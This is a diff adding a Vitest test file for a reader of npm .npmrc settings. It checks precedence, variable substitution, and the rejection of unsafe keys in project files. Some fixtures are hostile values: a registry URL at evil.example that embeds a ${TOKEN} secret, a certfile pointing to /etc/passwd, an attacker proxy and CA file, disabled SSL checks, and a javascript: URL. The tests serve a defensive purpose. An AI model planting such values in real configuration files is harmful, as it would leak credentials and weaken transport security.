@@ -1,0 +1,103 @@
+import { describe, expect, test } from 'vitest';
+import { readNpmSettings, type NpmrcFile } from '../../../registry-client/index.ts';
+
+type Level = NpmrcFile['level'];
+
+function read(files: Partial<Record<Level, string>>, env: Record<string, string> = {}) {
+  const levels = Object.entries(files).map(([level, text]) => ({
+    level: level as Level,
+    file: `${level}.npmrc`,
+    text,
+  }));
+  return readNpmSettings(levels, env);
+}
+
+test('the environment comes before the project, the project before the user, the user before the machine', () => {
+  const files = {
+    global: 'registry=https://global.example/\n@a:registry=https://global.example/a/',
+    user: 'registry=https://user.example\n@b:registry=https://user.example/b',
+    project: 'registry=https://project.example/\n',
+  };
+  expect(read(files).registry).toBe('https://project.example/');
+  expect(read({ ...files, project: '' }).registry).toBe('https://user.example/');
+  expect(read(files, { npm_config_registry: 'https://env.example' }).registry).toBe('https://env.example/');
+  expect(read(files, { NPM_CONFIG_REGISTRY: 'https://env.example' }).registry).toBe('https://env.example/');
+  expect([...read(files).scopes]).toEqual(
+    expect.arrayContaining([
+      ['@a', 'https://global.example/a/'],
+      ['@b', 'https://user.example/b/'],
+    ]),
+  );
+});
+
+describe('variables', () => {
+  const user = '//host/:_authToken=${TOKEN}\n//other/:_authToken=${MISSING?}\n//third/:_authToken=${MISSING}';
+
+  test('are those of the environment; what is missing leaves out its own line only', () => {
+    const { credentials, ignored } = read({ user }, { TOKEN: 'secret' });
+    expect(Object.fromEntries(credentials)).toEqual({ '//host/:_authToken': 'secret', '//other/:_authToken': '' });
+    expect(ignored).toEqual([
+      { file: 'user.npmrc', key: '//third/:_authToken', reason: 'it names a variable that is not set' },
+    ]);
+  });
+
+  test("in a project's file send nothing anywhere", () => {
+    const project = 'registry=https://evil.example/${TOKEN}/\n@a:registry=https://evil.example/${TOKEN}/';
+    const { registry, scopes, ignored } = read({ project }, { TOKEN: 'secret' });
+    expect([registry, scopes.size, ignored.length]).toEqual([undefined, 0, 2]);
+    expect(JSON.stringify(ignored)).not.toContain('secret');
+    // In the user's own file they do what the user wrote.
+    expect(read({ user: project }, { TOKEN: 'secret' }).registry).toBe('https://evil.example/secret/');
+  });
+});
+
+test("a project's file names registries and nothing else", () => {
+  const project =
+    '//host/:_authToken=x\n//host/:certfile=/etc/passwd\nproxy=http://evil.example\ncafile=/evil.pem\nstrict-ssl=false\nfund=false';
+  const { credentials, proxy, caFile, ignored } = read({ project });
+  expect([credentials.size, proxy, caFile]).toEqual([0, undefined, undefined]);
+  expect(ignored.map(({ key }) => key)).toEqual([
+    '//host/:_authToken',
+    '//host/:certfile',
+    'proxy',
+    'cafile',
+    'strict-ssl',
+  ]);
+  expect(read({ user: project })).toMatchObject({ proxy: 'http://evil.example', caFile: '/evil.pem' });
+});
+
+test.each([
+  'http://plain.example/',
+  'ftp://files.example/',
+  'javascript:alert(1)',
+  'https://user:password@host.example/',
+  'https://host.example/?token=x',
+  'nothing',
+])('%s is no registry', (address) => {
+  const { registry, ignored } = read({ user: `registry=${address}` });
+  expect([registry, ignored.map(({ key }) => key)]).toEqual([undefined, ['registry']]);
+});
+
+test.each(['http://localhost:4873', 'http://127.0.0.1:4873/', 'http://[::1]:4873/'])(
+  '%s is on this machine',
+  (address) => {
+    expect(read({ user: `registry=${address}` }).registry).toBe(new URL(address).href);
+  },
+);
+
+test('credentials without a registry, and certificates unchecked, are passed over and said', () => {
+  const { credentials, ignored } = read({ user: '_authToken=x\n_auth=y\n_password=z\nstrict-ssl=false' });
+  expect([credentials.size, ignored.map(({ key }) => key)]).toEqual([
+    0,
+    ['_authToken', '_auth', '_password', 'strict-ssl'],
+  ]);
+});
+
+test('a proxy comes from npm, else from the environment', () => {
+  const env = { HTTPS_PROXY: 'http://env.example:3128', no_proxy: 'localhost' };
+  expect(read({}, env)).toMatchObject({ proxy: 'http://env.example:3128', noProxy: 'localhost' });
+  expect(read({ user: 'https-proxy=http://npm.example:3128\nnoproxy=a.example' }, env)).toMatchObject({
+    proxy: 'http://npm.example:3128',
+    noProxy: 'a.example',
+  });
+});
